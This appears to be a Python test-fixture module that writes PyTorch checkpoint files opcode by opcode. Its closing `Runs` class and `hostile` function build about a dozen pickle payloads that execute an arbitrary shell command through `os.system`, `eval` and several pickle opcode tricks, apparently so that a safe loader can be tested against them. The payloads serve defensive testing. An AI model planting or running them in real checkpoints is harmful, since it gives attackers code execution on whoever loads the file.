"""Files of `torch.save`, written opcode by opcode: sound ones, and what an attacker would write."""

import io
import pickle
import struct
import zipfile
from collections.abc import Mapping, Sequence
from typing import Any

import numpy as np

KINDS = {
    "float64": "DoubleStorage", "float32": "FloatStorage", "float16": "HalfStorage",
    "int64": "LongStorage", "int32": "IntStorage", "int16": "ShortStorage",
    "int8": "CharStorage", "uint8": "ByteStorage",
}  # fmt: skip
MAGIC, VERSION = 0x1950A86A20F9469CFC6C, 1001
NONE, TRUE, FALSE = b"N", b"\x88", b"\x89"
LITTLE = {"protocol_version": 1001, "little_endian": True}


def program(*parts: bytes) -> bytes:
    """Join opcodes to a pickle of protocol 2."""
    return b"\x80\x02" + b"".join(parts) + b"."


def text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def whole(value: int) -> bytes:
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    encoded = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(encoded)]) + encoded


def items(*parts: bytes) -> bytes:
    """Return a tuple."""
    return b"(" + b"".join(parts) + b"t"


def wholes(values: Sequence[int]) -> bytes:
    return items(*map(whole, values))


def name(value: str) -> bytes:
    module, _, member = value.rpartition(".")
    return f"c{module}\n{member}\n".encode()


def storage(key: str, kind: str, count: int, *, old: bool = True) -> bytes:
    parts = [text("storage"), name(f"torch.{kind}"), text(key), text("cpu"), whole(count)]
    return items(*parts, *([NONE] if old else [])) + b"Q"


def tensor(
    stored: bytes, *, shape: Sequence[int], strides: Sequence[int], offset: int = 0
) -> bytes:
    hooks = name("collections.OrderedDict") + b")R"
    return name("torch._utils._rebuild_tensor_v2") + (
        items(stored, whole(offset), wholes(shape), wholes(strides), FALSE, hooks) + b"R"
    )


def state_dict(entries: Mapping[str, bytes]) -> bytes:
    """Return an ordered dict of tensors with the versions of its modules."""
    pairs = b"".join(text(key) + value for key, value in entries.items())
    versions = b"}" + text("_metadata") + b"}" + text("") + b"}" + text("version") + whole(1)
    return name("collections.OrderedDict") + b")R(" + pairs + b"u" + versions + b"sssb"


def of(key: str, array: np.ndarray, *, old: bool) -> bytes:
    """Return a tensor that is all of its storage, in whatever order the array has its axes."""
    strides = [step // array.itemsize for step in array.strides]
    stored = storage(key, KINDS[array.dtype.name], array.size, old=old)
    return tensor(stored, shape=array.shape, strides=strides)


def numbers(array: np.ndarray) -> bytes:
    """Return the numbers of an array as they are in memory, whatever the order of its axes."""
    return array.transpose(np.argsort(array.strides)[::-1]).tobytes()


def old_file(
    content: bytes, blocks: Mapping[str, bytes], *, counts: Mapping[str, int], system: Any = LITTLE
) -> bytes:
    """Write the older container: `blocks` are the storages' numbers by key."""
    pairs = [text(key) + (TRUE if x is True else whole(x)) for key, x in system.items()]
    keys = b"](" + b"".join(map(text, blocks)) + b"e"
    head = [whole(MAGIC), whole(VERSION), b"}(" + b"".join(pairs) + b"u", content, keys]
    tail = [struct.pack("<q", counts[key]) + block for key, block in blocks.items()]
    return b"".join([*map(program, head), *tail])


def new_file(
    content: bytes, blocks: Mapping[str, bytes], *, order: bytes = b"little", method: int = 0
) -> bytes:
    """Write the zip archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("net/data.pkl", program(content))
        archive.writestr("net/byteorder", order)
        for key, block in blocks.items():
            archive.writestr(f"net/data/{key}", block)
        archive.writestr("net/version", b"3\n")
    return buffer.getvalue()


def file_of(arrays: Mapping[str, np.ndarray], *, old: bool = True) -> bytes:
    """Write a file of either container."""
    keys = {key: str(1000 + index) for index, key in enumerate(arrays)}
    content = state_dict({key: of(keys[key], x, old=old) for key, x in arrays.items()})
    blocks = {keys[key]: numbers(x) for key, x in arrays.items()}
    if not old:
        return new_file(content, blocks)
    return old_file(content, blocks, counts={keys[key]: x.size for key, x in arrays.items()})


class Runs:
    """What `pickle` would run a command for."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (self.command,)


def hostile(command: str) -> dict[str, bytes]:
    """Return pickles that run a command where `pickle` loads them."""
    run = text(command)
    return {
        "os.system": program(name("os.system"), items(run), b"R"),
        "posix.system": pickle.dumps(Runs(command), 2),
        "protocol 4": pickle.dumps(Runs(command)),
        "protocol 0": pickle.dumps(Runs(command), 0),
        "eval": program(name("builtins.eval"), items(text("1")), b"R"),
        "instance": program(b"(" + run + b"ios\nsystem\n"),
        "object": program(b"(" + name("os.system") + run + b"o"),
        "new object": program(name("os.system"), items(run), b"\x81"),
        "extension": program(b"\x82\x01"),
        "attribute": program(name("collections.OrderedDict.__reduce__"), b")R"),
        "stack": program(text("os"), text("system"), b"\x93", items(run), b"R"),
        "load": program(name("torch.storage._load_from_bytes"), items(run), b"R"),
    }
